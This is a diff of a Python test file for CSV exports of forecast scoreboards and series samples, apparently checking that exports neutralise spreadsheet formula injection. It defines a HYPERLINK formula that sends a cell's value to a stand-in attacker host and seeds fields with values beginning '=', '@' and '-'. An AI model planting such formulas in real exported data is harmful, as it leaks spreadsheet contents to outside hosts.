@@ -23,7 +23,7 @@ from tests.monitor.builders import circle_report
 from tests.monitor.pages import builders
 
 FORMULA = '=HYPERLINK("https://attacker.example/?"&A1)'
-SCORES = [f"{path}/{part}.csv" for path in ("/scoreboard", "/api/v1/scoreboard") for part in PARTS]
+SCORES = [f"{path}/{part}.csv" for path in ("/forecasts/accuracy", "/api/v1/scoreboard") for part in PARTS]
 EXPORTS = ["/series/circle/samples.csv", "/api/v1/series/circle/export?format=csv"]
 
 
@@ -37,8 +37,8 @@ def browser(circle: Series) -> Client:
     total = Metric.objects.get(name="total.seconds")
     Metric.objects.filter(pk=total.pk).update(unit="@seconds")
     site = Site.objects.create(name="-site")
-    counts = {"n": 1, "last_value_n": 1, "relative_n": 1, "interval_n": 1, "within_80": 1, "within_90": 1}
-    sums = {"absolute_error": 15.0, "last_value_error": 20.0, "compared_error": 15.0, "relative_error": 1.25}
+    counts = {"n": 1, "last_value_n": 1, "interval_n": 1, "within_80": 1, "within_90": 1}
+    sums = {"absolute_error": 15.0, "last_value_error": 20.0, "compared_error": 15.0, "actual": 120.0}
     for place in (None, site):
         fields = {"metric": "total.seconds", "unit": "-s", "method": "=method", "suite": circle.suite}
         DayScore.objects.create(day=now.date(), site=place, **fields, **counts, **sums)
